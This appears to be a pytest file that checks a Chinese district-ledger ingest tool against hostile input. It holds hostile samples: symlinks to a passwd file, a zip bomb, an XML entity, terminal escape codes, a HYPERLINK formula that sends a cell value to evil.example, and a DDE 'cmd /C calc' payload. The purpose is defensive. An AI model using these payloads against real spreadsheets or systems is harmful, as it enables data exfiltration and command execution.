"""Hostile and careless input (issue 10): one test per class of attack, old and new.

Each test drops its input beside another district's good ledger, runs a real ingest pass and
asserts the Chinese reason, that the good ledger landed, and that nothing outside
GRASSROOTS_HOME changed (files a link points at, the system's temp folder).
"""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import select

from grassroots import contract, ingest, status, warehouse
from grassroots.warehouse.schema import cases
from tests.samples.hostile import (
    AS_OF,
    GOOD_DISTRICT,
    GOOD_FILE,
    all_wrong_rows,
    damaged_deflate,
    fates_of,
    make_city,
    only_sheet_hidden,
    styled_empty_rows,
    with_entity,
)
from tests.samples.ingest import LEDGER_HEADERS as LEDGER_CSV_HEADERS
from tests.samples.ingest import ledger_rows, write_ledger


@pytest.fixture
def city(home, tmp_path, monkeypatch):
    return make_city(home, tmp_path, monkeypatch)


# --- 1. links in the inbox -------------------------------------------------------------------

def test_a_link_to_a_system_file_is_refused_unread(city, settings):
    (city.inbox / "海曙区").mkdir()
    os.symlink(city.outside / "passwd", city.inbox / "海曙区" / "passwd.csv")
    os.symlink(city.outside / "外部问题清单.xlsx", city.inbox / "海曙区" / "问题清单.xlsx")
    city.ingest(settings)
    fates = fates_of(settings)
    for name in ("passwd.csv", "问题清单.xlsx"):
        assert fates[name]["fate"] == "rejected"
        assert "链接" in fates[name]["reason"]
        assert fates[name]["rows_total"] in (None, 0)
    receipt = city.inbox / "海曙区" / "回执" / "问题清单_回执.xlsx"
    assert receipt.is_file() and not receipt.is_symlink()
    assert not any(p.name.startswith("外部") for p in settings.archive.rglob("*"))
    # the next run does not refuse the same link again
    assert ingest.run_once(settings)["receive"]["received"] == []


def test_a_link_to_another_districts_file_never_makes_it_a_duplicate(city, settings):
    own = write_ledger(city.inbox / "海曙区", "海曙区问题清单.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "_a").mkdir()  # sorted first: the link is met before the district's own file
    os.symlink(own, city.inbox / "_a" / "海曙区问题清单.xlsx")
    os.symlink(city.inbox / GOOD_DISTRICT / GOOD_FILE, city.inbox / "海曙区" / "0链接.xlsx")
    city.ingest(settings)
    fates = {(r["district"], name): r for name, r in fates_of(settings, every=True)}
    assert fates[("海曙区", "海曙区问题清单.xlsx")]["fate"] == "accepted"
    assert "链接" in fates[("_a", "海曙区问题清单.xlsx")]["reason"]
    assert "链接" in fates[("海曙区", "0链接.xlsx")]["reason"]


def test_a_receipt_folder_that_is_a_link_is_never_written_through(city, settings):
    write_ledger(city.inbox / "海曙区", "海曙区问题清单.xlsx", ledger_rows("海曙区"), AS_OF)
    os.symlink(city.outside, city.inbox / "海曙区" / "回执")
    steps = city.ingest(settings)
    assert fates_of(settings)["海曙区问题清单.xlsx"]["fate"] == "accepted"
    assert fates_of(settings)["海曙区问题清单.xlsx"]["receipt_path"] is None
    assert steps["receipts"]["refused"]


def test_a_link_planted_at_a_receipts_path_is_replaced_not_followed(city, settings):
    write_ledger(city.inbox / "海曙区", "海曙区问题清单.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区" / "回执").mkdir()
    planted = city.inbox / "海曙区" / "回执" / "海曙区问题清单_回执.xlsx"
    os.symlink(city.outside / "passwd", planted)
    city.ingest(settings)
    assert planted.is_file() and not planted.is_symlink()
    assert fates_of(settings)["海曙区问题清单.xlsx"]["receipt_path"] == str(planted)


def test_a_district_folder_that_is_a_link_is_not_walked(city, settings):
    os.symlink(city.outside, city.inbox / "海曙区")
    steps = city.ingest(settings)
    assert not any(f.startswith("外部") for f in fates_of(settings))
    assert any("链接" in note for note in steps["scan"]["notes"])


# --- 2. values the warehouse cannot hold ----------------------------------------------------

def _visit(participants) -> list:
    return [None, dt.date(2026, 11, 3), "市发改委", "王强", "主任", "海曙区", "章水镇", "李家坑村", "村", "走访",
            participants, 0, None, None]


def test_a_participant_count_of_23_digits_is_refused_before_the_merge(city, settings):
    write_ledger(city.inbox / "海曙区", "海曙区.xlsx", ledger_rows("海曙区"), AS_OF,
                 visits=[_visit("12345678901234567890123")])
    city.ingest(settings)
    fate = fates_of(settings)["海曙区.xlsx"]
    assert fate["fate"] == "rejected" and "超过上限 2147483647" in fate["reason"]
    second = ingest.run_once(settings)  # the next run does not trip over it
    assert second["merge"]["merged"] == [] and fates_of(settings)["海曙区.xlsx"]["state"] == "done"


def test_text_too_long_control_characters_and_dates_out_of_window_are_refused(city, settings):
    rows = ledger_rows("海曙区", 3)
    rows[0][7] = "单" * 5000  # 责任单位 holds 200
    rows[2][10] = dt.date(1900, 1, 1)
    write_ledger(city.inbox / "海曙区", "海曙区.xlsx", rows, AS_OF)
    csv_row = "HS-009,问题9,民生实事,,海曙区,章水镇,市发改委,市发改委,张三,,2026-10-01,2026-12-31,推进中,,进展\x1b[2J,"
    (city.inbox / "海曙区" / "控制字符20261120.csv").write_text(",".join(LEDGER_CSV_HEADERS) + "\n" + csv_row + "\n",
                                                              encoding="utf-8")
    city.ingest(settings)
    engine = warehouse.connect(settings.warehouse_url)
    codes = {name: {f["code"] for f in warehouse.load_findings(engine, fates_of(settings)[name]["id"])}
             for name in ("海曙区.xlsx", "控制字符20261120.csv")}
    engine.dispose()
    assert fates_of(settings)["海曙区.xlsx"]["fate"] == "rejected"
    assert {"too_long", "date_out_of_range"} <= codes["海曙区.xlsx"]
    assert fates_of(settings)["控制字符20261120.csv"]["reason"] == "内容含有不可见的控制字符"


def test_a_ledger_dated_2099_gets_a_warning(city, settings):
    write_ledger(city.inbox / "海曙区", "海曙区.xlsx", ledger_rows("海曙区"), dt.date(2099, 1, 1))
    city.ingest(settings)
    fate = fates_of(settings)["海曙区.xlsx"]
    engine = warehouse.connect(settings.warehouse_url)
    reasons = [f["reason"] for f in warehouse.load_findings(engine, fate["id"])]
    engine.dispose()
    assert any("截至日期 2099-01-01 晚于今天（2026-11-27）" in r for r in reasons)


def test_a_file_that_fails_in_the_merge_fails_alone(city, settings):
    engine = warehouse.connect(settings.warehouse_url)
    warehouse.upgrade(engine)
    with engine.begin() as conn:  # a real database refusal, as a value the checks missed would cause
        conn.exec_driver_sql("CREATE TRIGGER refuse BEFORE INSERT ON case_history WHEN NEW.title = '无法入库' "
                             "BEGIN SELECT RAISE(ABORT, 'refused'); END")
    engine.dispose()
    rows = ledger_rows("海曙区")
    rows[0][1] = "无法入库"
    write_ledger(city.inbox / "海曙区", "海曙区.xlsx", rows, AS_OF)
    city.ingest(settings)
    fate = fates_of(settings)["海曙区.xlsx"]
    assert fate["fate"] == "rejected" and "无法写入数据库" in fate["reason"] and fate["state"] == "done"
    assert (city.inbox / "海曙区" / "回执" / "海曙区_回执.xlsx").is_file()
    second = ingest.run_once(settings)
    assert second["merge"] == {"merged": [], "changed": False, "rejected": []}


# --- 3. bounded work per file ---------------------------------------------------------------

def test_styled_empty_rows_without_a_dimension_tag_hit_the_row_cap(city, home, monkeypatch):
    from grassroots import settings as settings_module

    monkeypatch.setenv("GRASSROOTS_MAX_ROWS", "1000")
    styled_empty_rows(city.inbox / "海曙区", "海曙区.xlsx", "海曙区", 5000)
    settings = settings_module.load()
    city.ingest(settings)
    fate = fates_of(settings)["海曙区.xlsx"]
    assert fate["fate"] == "rejected" and "行数过多" in fate["reason"] and "上限 1000 行" not in fate["reason"]
    assert "超过 1000 行" in fate["reason"]


def test_findings_are_capped_per_rule_with_a_count_of_the_rest(city, settings):
    all_wrong_rows(city.inbox / "海曙区", "海曙区.xlsx", "海曙区", 450)
    city.ingest(settings)
    fate = fates_of(settings)["海曙区.xlsx"]
    engine = warehouse.connect(settings.warehouse_url)
    found = warehouse.load_findings(engine, fate["id"])
    engine.dispose()
    assert fate["fate"] == "rejected"
    choices = [f for f in found if f["code"] == "not_in_choices" and f["column_name"] == "问题来源"]
    assert len(choices) == contract.MAX_FINDINGS_PER_RULE
    more = [f for f in found if f["code"] == "more_of_kind" and f["column_name"] == "问题来源"]
    assert len(more) == 1 and more[0]["reason"].startswith("另有 250 处同类错误")
    assert fate["errors"] >= 450 * 5  # the count is of every error, not of those listed
    assert len(found) < 20 * (contract.MAX_FINDINGS_PER_RULE + 1)


# --- 4. change by content, damaged deflate --------------------------------------------------

def test_a_same_size_replacement_with_an_older_time_is_taken(city, settings):
    folder = city.inbox / "海曙区"
    folder.mkdir()
    header = ",".join(LEDGER_CSV_HEADERS)
    first = "\n".join([header, "HS-001,问题1,民生实事,,海曙区,章水镇,市发改委,市发改委,张三,,2026-10-01,2026-12-31,推进中,,,"])
    path = folder / "海曙区问题清单20261120.csv"
    path.write_text(first + "\n", encoding="utf-8")
    city.ingest(settings)
    before = path.stat().st_mtime
    second = first.replace("推进中", "未启动")
    assert len(second.encode()) == len(first.encode())
    path.write_text(second + "\n", encoding="utf-8")
    os.utime(path, (before - 3600, before - 3600))
    city.ingest(settings)
    engine = warehouse.connect(settings.warehouse_url)
    with engine.connect() as conn:
        status = conn.execute(select(cases.c.status).where(cases.c.case_id == "HS-001")).scalar_one()
    engine.dispose()
    assert status == "未启动"


def test_a_damaged_deflate_stream_is_a_plain_rejection_and_check_shows_no_traceback(city, settings, home):
    good = write_ledger(home / "work", "好.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区").mkdir()
    bad = damaged_deflate(good, city.inbox / "海曙区" / "坏.xlsx")
    city.ingest(settings)
    fate = fates_of(settings)["坏.xlsx"]
    assert fate["fate"] == "rejected" and "损坏" in fate["reason"] and "error" not in fate["reason"]
    out = subprocess.run([sys.executable, "-m", "grassroots", "check", str(bad), "--district", "海曙区"],
                         capture_output=True, text=True, env={**os.environ, "GRASSROOTS_HOME": str(home)}, timeout=300)
    assert out.returncode == 2, out
    assert "Traceback" not in out.stdout + out.stderr and "损坏" in out.stdout


# --- 5. two ingests at once -----------------------------------------------------------------

def test_two_ingests_at_once_both_finish_cleanly(city, settings, home):
    for n in range(4):
        rows = [[f"HS-{n}{i:02d}", *r[1:]] for i, r in enumerate(ledger_rows("海曙区", 3))]
        write_ledger(city.inbox / "海曙区", f"海曙区{n}.xlsx", rows, dt.date(2026, 11, 10 + n))
    city.settle_all()
    env = {**os.environ, "GRASSROOTS_HOME": str(home), "GRASSROOTS_SETTLE_SECONDS": "0", "TMPDIR": str(city.system_temp)}
    runs = [subprocess.Popen([sys.executable, "-m", "grassroots", "ingest"], env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True) for _ in range(2)]
    outs = [r.communicate(timeout=600) for r in runs]
    for run, (_out, err) in zip(runs, outs, strict=True):
        assert run.returncode == 0, err
        assert "Traceback" not in err
    city.assert_held(settings)
    fates = fates_of(settings)
    assert all(fates[f"海曙区{n}.xlsx"]["fate"] == "accepted" for n in range(4))
    assert all(r["state"] == "done" for r in fates.values())


# --- 6. names and true causes ---------------------------------------------------------------

def test_status_prints_file_names_without_control_characters(city, settings, home):
    write_ledger(city.inbox / "海曙区", "a\x1b[2J\x07b.xlsx", ledger_rows("海曙区"), AS_OF)
    city.ingest(settings)
    out = subprocess.run([sys.executable, "-m", "grassroots", "status", "--files"], capture_output=True, text=True,
                         env={**os.environ, "GRASSROOTS_HOME": str(home)}, timeout=300)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout
    assert "a\\x1b[2J\\x07b.xlsx" in out.stdout


def test_the_operators_page_prints_file_names_without_control_characters(city, settings):
    from grassroots.operators_page.app import _env

    html = _env.from_string("{{ name }}").render(name="a\x1b[2J\u202eb.xlsx")
    assert html == "a\\x1b[2J\\u202eb.xlsx"


def test_a_receipt_like_name_is_reported_and_a_trailing_space_is_read(city, settings):
    write_ledger(city.inbox / "海曙区", "海曙区问题清单.xlsx ", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区" / "x_回执.csv").write_text("问题编号\n", encoding="utf-8")
    steps = city.ingest(settings)
    assert fates_of(settings)["海曙区问题清单.xlsx "]["fate"] == "accepted"
    assert any("x_回执.csv" in n and "回执" in n for n in steps["scan"]["notes"])
    assert "x_回执.csv" in status.render(settings, steps)


def test_a_254_byte_file_name_keeps_its_data_docs_page(city, settings):
    name = "问" * 82 + ".xlsx"  # 246 + 5 bytes
    assert 250 <= len(name.encode()) <= 255
    write_ledger(city.inbox / "海曙区", name, ledger_rows("海曙区"), AS_OF)
    city.ingest(settings)
    fate = fates_of(settings)[name]
    assert fate["fate"] == "accepted"
    assert fate["datadocs_path"] and Path(fate["datadocs_path"]).is_file()
    assert Path(fate["datadocs_path"]).name != "index.html"


def test_a_big5_csv_is_told_its_encoding(city, settings):
    folder = city.inbox / "海曙区"
    folder.mkdir()
    text = "問題編號,問題名稱,問題來源,所屬區縣,街道（鎮鄉）\nHS-001,道路,民生實事,海曙區,章水鎮\n"
    (folder / "繁体.csv").write_bytes(text.encode("big5"))
    city.ingest(settings)
    reason = fates_of(settings)["繁体.csv"]["reason"]
    assert "编码" in reason and "Big5" in reason


def test_a_workbook_whose_only_sheet_is_hidden_is_told_so(city, settings, home):
    good = write_ledger(home / "work", "好.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区").mkdir()
    only_sheet_hidden(good, city.inbox / "海曙区" / "隐藏.xlsx")
    city.ingest(settings)
    reason = fates_of(settings)["隐藏.xlsx"]["reason"]
    assert "隐藏" in reason and "表头" not in reason


# --- the classes that held, so they keep holding --------------------------------------------

def test_a_corrupt_file_is_refused(city, settings):
    (city.inbox / "海曙区").mkdir()
    (city.inbox / "海曙区" / "坏.xlsx").write_bytes(b"PK\x03\x04" + os.urandom(5000))
    (city.inbox / "海曙区" / "假.xlsx").write_text("not a workbook", encoding="utf-8")
    city.ingest(settings)
    assert "损坏" in fates_of(settings)["坏.xlsx"]["reason"]
    assert "不是 Excel" in fates_of(settings)["假.xlsx"]["reason"]


def test_an_encrypted_workbook_is_refused(city, settings, home):
    import msoffcrypto.format.ooxml as ooxml

    plain = write_ledger(home / "work", "plain.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区").mkdir()
    with plain.open("rb") as src, (city.inbox / "海曙区" / "加密.xlsx").open("wb") as out:
        ooxml.OOXMLFile(src).encrypt("pw", out)
    city.ingest(settings)
    assert "密码" in fates_of(settings)["加密.xlsx"]["reason"]


def test_a_zip_bomb_is_refused_unexpanded(city, home, monkeypatch):
    from grassroots import settings as settings_module

    bomb = write_ledger(city.inbox / "海曙区", "炸弹.xlsx", ledger_rows("海曙区"), AS_OF)
    with zipfile.ZipFile(bomb, "a", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/media/pad.bin", b"\0" * (3 * 1024 * 1024))
    monkeypatch.setenv("GRASSROOTS_MAX_UNZIPPED_MB", "2")
    settings = settings_module.load()
    city.ingest(settings)
    assert "解压后" in fates_of(settings)["炸弹.xlsx"]["reason"]


def test_xml_entities_are_never_expanded_or_resolved(city, settings, home):
    good = write_ledger(home / "work", "好.xlsx", ledger_rows("海曙区"), AS_OF)
    (city.inbox / "海曙区").mkdir()
    with_entity(good, city.inbox / "海曙区" / "实体.xlsx", city.outside / "passwd")
    city.ingest(settings)
    fate = fates_of(settings)["实体.xlsx"]
    assert fate["state"] == "done" and fate["reason"] != "" or fate["fate"] == "accepted"
    engine = warehouse.connect(settings.warehouse_url)
    with engine.connect() as conn:
        titles = conn.execute(select(cases.c.title)).scalars().all()
    engine.dispose()
    assert not any("root:" in (t or "") or "aaaaaaaaaa" in (t or "") for t in titles)
    receipt = fate["receipt_path"]
    assert receipt is None or b"root:x" not in Path(receipt).read_bytes()


def test_formula_text_stays_text(city, settings):
    import openpyxl

    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    rows = ledger_rows("海曙区")
    rows[0][1] = formula
    rows[1][14] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path = write_ledger(city.inbox / "海曙区", "公式.xlsx", rows, AS_OF)
    wb = openpyxl.load_workbook(path)
    wb["问题清单"]["B3"].data_type = "s"  # text that looks like a formula, as a district may type it
    wb.save(path)
    city.ingest(settings)
    fate = fates_of(settings)["公式.xlsx"]
    assert fate["fate"] == "accepted"
    engine = warehouse.connect(settings.warehouse_url)
    with engine.connect() as conn:
        title = conn.execute(select(cases.c.title).where(cases.c.case_id == "HS-001")).scalar_one()
    engine.dispose()
    assert title == formula
    receipt = openpyxl.load_workbook(fate["receipt_path"])
    for ws in receipt.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_another_districts_rows_never_reach_its_cases(city, settings):
    write_ledger(city.inbox / "海曙区", "冒名.xlsx", ledger_rows("鄞州区", 5), AS_OF)
    city.ingest(settings)  # asserts 鄞州区 holds exactly its own three cases
    fate = fates_of(settings)["冒名.xlsx"]
    assert fate["fate"] == "rejected" and "海曙区" in fate["reason"] and "鄞州区" in fate["reason"]
